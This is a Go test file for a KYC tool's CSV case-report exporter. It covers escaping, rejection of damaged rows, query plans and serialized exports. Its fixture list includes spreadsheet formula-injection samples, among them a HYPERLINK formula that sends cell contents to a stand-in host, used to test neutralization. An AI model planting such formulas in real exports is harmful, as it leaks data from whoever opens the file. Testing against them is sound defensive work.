package report

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/kycdesk/kycdesk/db"
	"github.com/kycdesk/kycdesk/internal/testkit"
)

// trickyCells are values that each rule of Neutralize and encoding/csv's quoting touches.
var trickyCells = []string{"", "plain", "Nguyễn Thu Hương", "Lê, Văn Tám", `Trần "Bé" Na`, "Phạm\nThị\r\nHoa", "a\rb",
	`=HYPERLINK("http://evil.example/?q="&A1,"click")`, "=1+1", "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\tTabbed",
	"\rCarriage", "\nNewline", "'already quoted", `\.`, `\.x`, `x\.`, " leading space", "trailing space ", "\v", "\fx",
	"\u00a0nbsp", "\u0085nel", "\u2003em", "\u3000ideographic", "\u200bzero width", "\u2028line", "x\u00a0", "\"", `""`,
	",", "=", "'", "''", "a=b", " =x", "Ｎguyễn", "😀 emoji", "x\ty", "trailing\n", "unit\x1fseparator", "\x1f", "\x1f\x1f"}

// goCSV is what encoding/csv writes for one record of cells, each neutralized.
func goCSV(cells ...string) string {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	for i, c := range cells {
		cells[i] = Neutralize(c)
	}
	_ = w.Write(cells)
	w.Flush()
	return b.String()
}

func randomCell(r *rand.Rand) string {
	alphabet := []string{"a", "Z", "7", " ", ",", `"`, "\r", "\n", "\t", "=", "+", "-", "@", "'", `\`, ".", "ễ", "\u00a0", "\u2003", "\v"}
	var b strings.Builder
	for range r.IntN(6) {
		b.WriteString(alphabet[r.IntN(len(alphabet))])
	}
	return b.String()
}

// TestAppendCellMatchesCSVWriter: appendCell writes what Neutralize and encoding/csv
// write, for each tricky value and 200,000 random ones.
func TestAppendCellMatchesCSVWriter(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	values := append([]string{}, trickyCells...)
	for range 200_000 {
		values = append(values, randomCell(r))
	}
	for _, v := range values {
		got := string(appendCell([]byte("x,"), []byte(v))) + ",end\n"
		if want := goCSV("x", v, "end"); got != want {
			t.Fatalf("%q: appendCell wrote %q, encoding/csv %q", v, got, want)
		}
	}
}

// TestPackedRowRejectsDamage: a packed row that does not parse is an error, not a
// record made up of whatever was there.
func TestPackedRowRejectsDamage(t *testing.T) {
	good := "3:ref7:generic3:int4:Namelow,new,review,,1700000000000,,:3:abc1700000000001,n"
	if _, err := appendCasesRecord(nil, []byte(good), nil, nil); err != nil {
		t.Fatalf("good row: %v", err)
	}
	for _, bad := range []string{"", "9:ref", "x:ref", good[:len(good)-1], good + "n", strings.Replace(good, "1700000000000", "17x", 1),
		good[:len(good)-1] + "maybe", strings.Replace(good, "1700000000001", "-", 1)} {
		if rec, err := appendCasesRecord(nil, []byte(bad), nil, nil); err == nil {
			t.Errorf("%q: no error (wrote %q)", bad, rec)
		}
	}
}

// goCasesCSV is the cases report as it was written before SQLite built the lines: sixteen
// columns scanned into Go values, formatted, neutralized and written by encoding/csv.
// TestCasesRowMatchesGoWriter compares the two byte for byte.
func goCasesCSV(t *testing.T, q *sql.DB, from, to, now int64) string {
	t.Helper()
	ctx := context.Background()
	integrations, err := names(ctx, q, `SELECT id, name FROM integrations`)
	if err != nil {
		t.Fatal(err)
	}
	users, err := names(ctx, q, `SELECT CAST(id AS TEXT), email FROM users`)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := q.Query(`SELECT reference, provider, integration_id, full_name, risk_level, status, result, assignee_id,
		created_at, first_decided_at, decision, reason_code, sla_due, decided_at, sla_paused_ms, sla_paused_at
		FROM cases WHERE created_at >= ? AND created_at < ? ORDER BY created_at, id`, from, to)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	for rows.Next() {
		var (
			ref, provider, integ, name, risk, result string
			assignee, decision, reason               sql.NullString
			created                                  int64
			firstDecided                             sql.NullInt64
			c                                        slaCase
		)
		if err := rows.Scan(&ref, &provider, &integ, &name, &risk, &c.status, &result, &assignee, &created, &firstDecided,
			&decision, &reason, &c.due, &c.decidedAt, &c.pausedMS, &c.pausedAt); err != nil {
			t.Fatal(err)
		}
		cells := []string{ref, provider, integrations[integ], name, risk, c.status, result, "",
			Time(sql.NullInt64{Int64: created, Valid: true}), Time(firstDecided), decision.String, reason.String, Time(c.due), yesNo(c.breached(now))}
		if assignee.Valid {
			cells[7] = users[assignee.String]
		}
		for i, cell := range cells {
			cells[i] = Neutralize(cell)
		}
		if err := w.Write(cells); err != nil {
			t.Fatal(err)
		}
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	return b.String()
}

type bufSink struct{ bytes.Buffer }

func (bufSink) Flush() error { return nil }

// TestCasesRowMatchesGoWriter: the cases report SQLite writes is byte for byte the one
// the Go writer wrote, over cases with every tricky value in every free-text column, NULLs,
// with and without an assignee, paused and breached SLAs, decided and not.
func TestCasesRowMatchesGoWriter(t *testing.T) {
	d := testkit.DB(t)
	ctx := context.Background()
	base := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	ms := db.Millis(base)
	for i, name := range []string{"plain-integration", `acme, "vn"`, "=evil", "Nhà\nmạng"} {
		if _, err := d.Write.Exec(`INSERT INTO integrations (id, name, provider, auth_mode, created_at, updated_at)
			VALUES (?, ?, 'generic', 'hmac', ?, ?)`, fmt.Sprintf("int%d", i), name, ms, ms); err != nil {
			t.Fatal(err)
		}
	}
	for i, email := range []string{"ana@example.com", `"quoted"@example.com`, "-minus@example.com", "a,b@example.com"} {
		if _, err := d.Write.Exec(`INSERT INTO users (id, email, role, password_hash, created_at, updated_at) VALUES (?, ?, 'analyst', 'x', ?, ?)`,
			i+1, email, ms, ms); err != nil {
			t.Fatal(err)
		}
	}
	statuses := []string{"new", "in_review", "pending_info", "escalated", "awaiting_second_approval", "approved", "rejected"}
	now := ms + 36*3_600_000
	r := rand.New(rand.NewPCG(7, 8))
	nullable := func(s string, i int) any {
		if i%3 == 0 {
			return nil
		}
		return s
	}
	n := 0
	for i, v := range trickyCells {
		for j := range 4 {
			at := ms + int64(n)*61_001 + int64(r.IntN(1000))
			var assignee, firstDecided, decidedAt, pausedAt any
			if j > 0 {
				assignee = 1 + (i+j)%4
			}
			if (i+j)%2 == 0 {
				firstDecided, decidedAt = at+int64(r.IntN(48*3_600_000)), at+int64(r.IntN(48*3_600_000))
			}
			if j == 3 {
				pausedAt = at + int64(r.IntN(40*3_600_000))
			}
			refs := []string{v, fmt.Sprintf("vrf-%d-%d", i, j), trickyCells[(i+j)%len(trickyCells)], "x"}
			if _, err := d.Write.Exec(`INSERT INTO cases (id, integration_id, provider, reference, status, result, risk_level, result_at,
				full_name, sla_due, created_at, updated_at, decision, reason_code, decided_at, first_decided_at, assignee_id,
				sla_paused_ms, sla_paused_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
				fmt.Sprintf("case-%03d-%d", i, j), fmt.Sprintf("int%d", (i+j)%4), refs[(j+1)%4], refs[j]+fmt.Sprint(n), statuses[(i+j)%len(statuses)],
				[]string{"pass", "fail", "review"}[j%3], []string{"low", "medium", "high"}[i%3], at,
				v, at+int64(r.IntN(24*3_600_000)), at, at, nullable(v, i+j), nullable(trickyCells[(i*7+j)%len(trickyCells)], i+j+1),
				decidedAt, firstDecided, assignee, int64(r.IntN(3)*3_600_000), pausedAt); err != nil {
				t.Fatalf("case %d/%d: %v", i, j, err)
			}
			n++
		}
	}
	rg := Range{From: base, To: base.AddDate(0, 0, 3)}
	want := goCasesCSV(t, d.Read, db.Millis(rg.From), db.Millis(rg.To), now)
	for _, workers := range []int{1, 2, 3} {
		rp := &Reporter{Read: d.Read, Now: func() time.Time { return time.UnixMilli(now) }, Workers: workers}
		var s bufSink
		rows, err := rp.Write(ctx, "cases", rg, &s)
		if err != nil || rows != int64(n) {
			t.Fatalf("Write = %d, %v; want %d rows", rows, err, n)
		}
		header := "\ufeffreference,provider,integration,applicant_name,risk,status,result,assignee,created_at,first_decided_at,decision,reason_code,sla_due,sla_breached\n"
		got := strings.TrimPrefix(s.String(), header)
		if got != want {
			gl, wl := strings.SplitAfter(got, "\n"), strings.SplitAfter(want, "\n")
			for k := range min(len(gl), len(wl)) {
				if gl[k] != wl[k] {
					t.Fatalf("%d workers: line %d:\nSQL: %q\nGo:  %q", workers, k, gl[k], wl[k])
				}
			}
			t.Fatalf("%d workers: %d lines, want %d", workers, len(gl), len(wl))
		}
	}
}

// TestCasesChunkPlans: a chunk of the cases report reads a range of cases_created bounded
// at both ends (or up to the range's end) in its order, and a case read again is found by
// its rowid.
func TestCasesChunkPlans(t *testing.T) {
	d := testkit.DB(t)
	for _, tt := range []struct {
		query string
		args  []any
		want  string
	}{
		{chunkQuery(casesFast(1), "cases", true), []any{1, "", 5, "x"}, "SEARCH cases USING INDEX cases_created ((created_at,id)>(?,?) AND (created_at,id)<(?,?))"},
		{chunkQuery(casesFast(1), "cases", false), []any{1, "", 9}, "SEARCH cases USING INDEX cases_created ((created_at,id)>(?,?) AND created_at<?)"},
		{`SELECT ` + casesRow(1) + ` FROM cases WHERE rowid = ?`, []any{1}, "SEARCH cases USING INTEGER PRIMARY KEY (rowid=?)"},
	} {
		plan := strings.Join(testkit.QueryPlan(t, d, tt.query, tt.args...), "; ")
		if plan != tt.want {
			t.Errorf("plan %q, want %q", plan, tt.want)
		}
	}
}

// blockingSink holds the first chunk (its second write: the header is the first) until
// release is closed.
type blockingSink struct {
	bytes.Buffer
	writes  int
	held    chan struct{}
	release chan struct{}
}

func (s *blockingSink) Write(p []byte) (int, error) {
	if s.writes++; s.writes == 2 {
		close(s.held)
		<-s.release
	}
	return s.Buffer.Write(p)
}

func (*blockingSink) Flush() error { return nil }

// TestOneCasesExportAtATime: while one cases export runs, a second waits for it (and
// gives up with its context), then runs once the first is done.
func TestOneCasesExportAtATime(t *testing.T) {
	d := testkit.DB(t)
	base := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	ms := db.Millis(base)
	if _, err := d.Write.Exec(`INSERT INTO integrations (id, name, provider, auth_mode, created_at, updated_at) VALUES ('i1', 'one', 'generic', 'hmac', ?, ?)`, ms, ms); err != nil {
		t.Fatal(err)
	}
	for i := range 10 {
		if _, err := d.Write.Exec(`INSERT INTO cases (id, integration_id, provider, reference, status, result, risk_level, result_at,
			full_name, sla_due, created_at, updated_at) VALUES (?, 'i1', 'generic', ?, 'new', 'review', 'low', ?, 'Name', ?, ?, ?)`,
			fmt.Sprint("c", i), fmt.Sprint("ref", i), ms+int64(i), ms+86_400_000, ms+int64(i), ms+int64(i)); err != nil {
			t.Fatal(err)
		}
	}
	rp := &Reporter{Read: d.Read, Now: func() time.Time { return base }}
	rg := Range{From: base, To: base.AddDate(0, 0, 1)}
	first := &blockingSink{held: make(chan struct{}), release: make(chan struct{})}
	done := make(chan error, 1)
	go func() {
		n, err := rp.Write(context.Background(), "cases", rg, first)
		if err == nil && n != 10 {
			err = fmt.Errorf("%d rows", n)
		}
		done <- err
	}()
	<-first.held
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	var second bufSink
	if _, err := rp.Write(ctx, "cases", rg, &second); err != context.DeadlineExceeded {
		t.Fatalf("second export while the first runs: %v, want it to wait until its deadline", err)
	}
	close(first.release)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if n, err := rp.Write(context.Background(), "cases", rg, &second); err != nil || n != 10 {
		t.Fatalf("second export after the first: %d, %v", n, err)
	}
}
